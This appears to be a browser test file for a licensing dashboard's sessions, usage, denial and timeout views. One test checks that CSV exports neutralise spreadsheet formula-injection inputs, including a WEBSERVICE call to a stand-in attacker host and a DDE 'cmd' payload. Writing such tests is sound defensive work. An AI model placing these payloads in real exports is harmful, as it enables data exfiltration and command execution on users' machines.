// Much of everything, slow answers, and names that are meant to do harm. The answers are the test's: only the page is the
// server's.

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { after, before, test } from "node:test";
import { eventually, openBrowser } from "./lib.mjs";
import { arriver, at, bucket, day, ids, instance, nothing, overview, session } from "./made-up.mjs";

let browser, arrive;
before(async () => {
  browser = await openBrowser();
  arrive = arriver(browser);
});
after(() => browser?.close());

for (const role of ["producer", "customer"]) {
  test(`all sessions of an instance can be reached by choosing it, as ${role}`, async () => {
    const crowd = Array.from({ length: 5 }, (_, n) => session(n));
    const { person, queries } = await arrive("?view=sessions", {
      session: { role, name: role, namespace: "shop" },
      overview: ({ instanceId, include }) => {
        const listed = include === "sessions";
        if (instanceId === ids.alpha) return overview([instance("alpha", { sessions: listed ? crowd : null, counts: { active: 9, idle: 0, notListed: listed ? 4 : 0 } })]);
        if (instanceId === ids.beta) return overview([instance("beta", { sessions: listed ? [session(77)] : null, counts: { active: 1, idle: 0 } })]);
        return overview([
          instance("alpha", { sessions: listed ? crowd : null, counts: { active: 5, idle: 0 } }),
          instance("beta", { sessions: listed ? [] : null, counts: { active: 1, idle: 0, notListed: listed ? 1 : 0 } }),
        ]);
      },
    });
    await person.page.getByText("1 more sessions are live").waitFor();
    await person.page.getByLabel("Instance", { exact: true }).selectOption(ids.beta);
    await person.page.getByRole("button", { name: /^End the session of user77/ }).waitFor();
    await person.page.getByLabel("Instance", { exact: true }).selectOption(ids.alpha);
    const others = { producer: "Only the newest are listed. All of them: kubectl get sessions.licensing-operator.dev -n shop", customer: "Only the newest are listed. Older ones appear here as newer ones end." };
    await person.page.getByText(others[role], { exact: true }).waitFor();
    await person.page.getByLabel("Instance", { exact: true }).selectOption(ids.beta);
    await person.page.getByRole("button", { name: /^End the session of user77/ }).waitFor();
    assert.equal(await person.page.locator("tr[data-row]").count(), 1);
    assert.ok(queries("overview").some((q) => q.instanceId === ids.beta && q.include === "sessions"));
    assert.equal(await person.page.getByLabel("Instance", { exact: true }).locator("option").count(), 3, "others can still be chosen");
    await person.leave();
  });
}

test("the file for a spreadsheet has no formulas", async () => {
  const names = ['=1+WEBSERVICE("//evil.example")', "+2+cmd|' /C calc'!A0", "-1-2", "@SUM(1)", "x;=1", "-12.5", "plain"];
  const quoted = ["\"'=1+WEBSERVICE(\"\"//evil.example\"\")\"", "\"'+2+cmd|' /C calc'!A0\"", "\"'-1-2\"", "\"'@SUM(1)\"", "\"x;'=1\"", '"-12.5"', '"plain"'];
  const { person } = await arrive("?view=usage", {
    "usage/v1/aggregates": ({ by }) => ({
      buckets: by === "item" ? names.map((name) => bucket(name, 2)) : by === "item,day" ? names.map((name) => bucket([name, at(1)], 2)) : [bucket(at(1), 14)],
    }),
  });
  await person.page.getByText("Show as a table").click();
  const coming = person.page.waitForEvent("download");
  await person.page.getByRole("button", { name: "CSV", exact: true }).click();
  const [header, line] = readFileSync(await (await coming).path(), "utf8").split("\r\n");
  assert.equal(header, ['"Time"', ...quoted, '"Charged"', '"Refunded"'].join(","));
  assert.equal(line, [new Date(at(1)).toISOString(), ...names.map(() => 2), 14, 0].map((v) => `"${v}"`).join(","));
  await person.leave();
});

test("what others used is never less than nothing", async () => {
  const { person, queries } = await arrive("?view=usage", {
    "usage/v1/aggregates": ({ by }) => ({
      buckets: by === "item" ? [bucket("Render", 30)] : by === "item,day" ? [bucket(["Render", at(2)], 20), bucket(["Render", at(1)], 10)] : [bucket(at(2), 25), bucket(at(1), 8)],
    }),
  });
  const legend = await person.page.locator(".legend li").allInnerTexts();
  assert.deepEqual(legend.map((text) => text.replace(/\s+/g, " ")), ["Render 30", "Others 5"]);
  assert.deepEqual(queries("usage/v1/aggregates").filter((q) => q.top !== "200" || q.kind).map((q) => q.by), ["item", "item,day", "day"], "the whole is asked for last");
  await person.leave();
});

test("sums beyond what one account can hold are shown to the last digit", async () => {
  const exact = (...buckets) => JSON.stringify({ buckets }).replace(/"(-?\d+\.\d+)"/g, "$1");
  const charged = "27670116110564.327421", used = "16000000000000.000002", refunded = "11670116110564.327419";
  const sums = { charged, refunded, used };
  const { person } = await arrive("?view=usage", {
    "usage/v1/aggregates": ({ by }) => (by === "item" ? exact(bucket("Render", 0, sums)) : by === "item,day" ? exact(bucket(["Render", at(1)], 0, sums)) : exact(bucket(at(1), 0, sums))),
  });
  await person.page.getByText("Show as a table").click();
  for (const [name, want] of Object.entries(sums)) {
    assert.equal(await person.figure(`period/${name}`), want);
    assert.equal(await person.figure(`group/Render/${name}`), want);
  }
  assert.equal(await person.figure(`series/${new Date(at(1)).toISOString()}/charged`), charged);
  await person.leave();
});

test("users are told apart by sums that are kept", async () => {
  const { person, queries } = await arrive("?view=usage&by=requester", {
    "usage/v1/aggregates": ({ by, requester }) => ({
      buckets: by === "requester" ? [bucket("lisa", 7, { records: 5 }), bucket("refused", 0, { records: 9 })]
        : by === "requester,day" ? [bucket(["lisa", at(1)], 7, { records: 5 })]
          : requester ? [bucket(at(2), 0, { records: 3 }), bucket(at(1), 7, { records: 5 })] : [bucket(at(1), 7, { records: 2 })],
    }),
  });
  const aboutUsers = () => queries("usage/v1/aggregates").filter((q) => q.by.startsWith("requester") || q.requester);
  assert.equal(await person.figure("period/records"), "2");
  await person.page.getByRole("columnheader", { name: "Records of all kinds", exact: true }).waitFor();
  assert.equal(await person.figure("group/lisa/records"), "5");
  assert.equal(await person.page.locator('[data-figure="group/refused/used"]').count(), 0, "who was only refused used nothing");
  assert.ok(queries("usage/v1/aggregates").some((q) => q.by === "day" && q.kind === "Charge,AutomaticCharge,Refund"));
  await person.page.getByLabel("User", { exact: true }).selectOption("lisa");
  await person.page.getByText("of all kinds, denials too").waitFor();
  assert.equal(await person.figure("period/records"), "8");
  await person.page.getByText("Show as a table").click();
  assert.equal(await person.page.getByRole("region", { name: /^Tokens by user and day/ }).locator("tbody tr").count(), 1, "a day with denials alone has no line");
  assert.ok(aboutUsers().length >= 4);
  assert.deepEqual(aboutUsers().filter((q) => q.kind), []);
  await person.leave();
});

test("what only other views show does not narrow the overview down", async () => {
  const { person, queries } = await arrive("?item=CADPrint&user=lisa&lineItem=ACT01", {});
  const narrowed = () => [...queries("usage/v1/aggregates"), ...queries("usage/v1/records")].filter((q) => q.item || q.requester || q.lineItem);
  assert.ok(queries("usage/v1/aggregates").length >= 3);
  assert.deepEqual(narrowed(), []);
  await person.open("Usage");
  assert.equal(await person.page.getByLabel("Item", { exact: true }).inputValue(), "CADPrint");
  assert.ok(narrowed().every((q) => q.item === "CADPrint" && q.requester === "lisa" && q.lineItem === "ACT01") && narrowed().length > 0);
  await person.leave();
});

const denial = (n) => ({ id: `d-${n}`, position: n, kind: "Denial", reason: "NotEnoughTokens", time: at(0), instance: "alpha", item: "Render", count: 1, tokens: 2 });
const denied = (days, hours) => ({ by, kind }) => ({
  buckets: kind !== "Denial" ? [] : by === "reason" ? [bucket("NotEnoughTokens", 0, { records: days.reduce((n, d) => n + d.records, 0) })] : by === "day" ? days : hours,
});
const none = (key, records) => bucket(key, 0, { records });

test("the newest denials are looked for from the hour in which they begin", async () => {
  for (const [name, days, hours, from] of [
    ["few", [none(at(9), 4), none(at(1), 20)], [], at(9)],
    ["as many as are shown", [none(at(9), 5), none(at(1), 20)], [], at(9)],
    ["more in a day", [none(at(9), 5000), none(at(0), 40)], [none(at(0, 1), 12), none(at(0, 2), 14), none(at(0, 3), 14)], at(0, 2)],
    ["more in the day before", [none(at(2), 4000), none(at(1), 10)], [none(at(2, 3), 3990), none(at(2, 4), 8), none(at(2, 7), 7)], at(2, 4)],
  ]) {
    const { person, queries } = await arrive("?view=denials", {
      "usage/v1/aggregates": denied(days, hours), "usage/v1/records": { records: [denial(1)], next: 1, more: false },
    });
    await eventually(() => assert.deepEqual(queries("usage/v1/records").map((q) => new Date(q.from).getTime()), [new Date(from).getTime()], name));
    const [asked] = queries("usage/v1/aggregates").filter((q) => q.by === "hour");
    assert.equal(asked && new Date(asked.to) - new Date(asked.from), hours.length > 0 ? day : undefined, `${name}: hours of one day`);
    await person.leave();
  }
});

test("of an hour with too many denials the page reads three pages, and says so", async () => {
  let n = 0;
  const answers = {
    "usage/v1/aggregates": denied([none(at(0), 60_000)], [none(at(0, 0), 60_000)]),
    "usage/v1/records": ({ limit }) => ({ records: Array.from({ length: Number(limit) }, () => denial(++n)), next: n, more: true }),
  };
  const { person, queries } = await arrive("?view=denials", answers);
  await person.page.getByText("25 of 60,000, and more").waitFor();
  assert.deepEqual(queries("usage/v1/records").map((q) => q.after), ["0", "1000", "2000"]);
  assert.equal(await person.page.locator("tr[data-row]").first().getAttribute("data-row"), "d-3000");
  await person.open("Overview");
  await person.page.getByText("And more: there are newer ones").waitFor();
  await person.leave();
});

test("the newest denials are those with the latest time, in whatever order they were recorded", async () => {
  const times = [at(0, 3), at(0, 1), at(0, 2), ...Array.from({ length: 30 }, () => at(0)), at(0, 2)];
  // Positions that a customer is given have no order.
  const records = times.map((time, i) => ({ ...denial(i + 1), time, position: 2 ** 52 + (i * 7919) % 101 }));
  const { person } = await arrive("?view=denials", {
    "usage/v1/aggregates": denied([none(at(0), records.length)], [none(at(0, 0), records.length)]), "usage/v1/records": { records, next: records.length, more: false },
  });
  const shown = await person.page.locator("tr[data-row]").evaluateAll((rows) => rows.map((row) => row.dataset.row));
  assert.equal(shown.length, 25);
  assert.deepEqual(shown.slice(0, 6), ["d-1", "d-34", "d-3", "d-2", "d-33", "d-32"]);
  await person.leave();
});

test("a server that takes too long is not one that cannot be reached", async () => {
  let slow = false;
  const { person } = await arrive("?view=lineitems", { overview: () => (slow ? new Promise(() => {}) : nothing.overview) }, {
    init: () => {
      const { timeout } = AbortSignal;
      AbortSignal.timeout = (milliseconds) => timeout.call(AbortSignal, globalThis.hasty ? 1000 : milliseconds);
    },
  });
  slow = true;
  await person.page.evaluate(() => {
    globalThis.hasty = true;
  });
  await person.page.getByRole("button", { name: "Refresh now", exact: true }).click();
  await person.page.getByText("The server took longer than 45 seconds to answer.").waitFor();
  assert.match(await person.page.locator(".freshness").innerText(), /Too slow/);
  assert.doesNotMatch(await person.text(), /cannot be reached/);
  await person.leave();
});
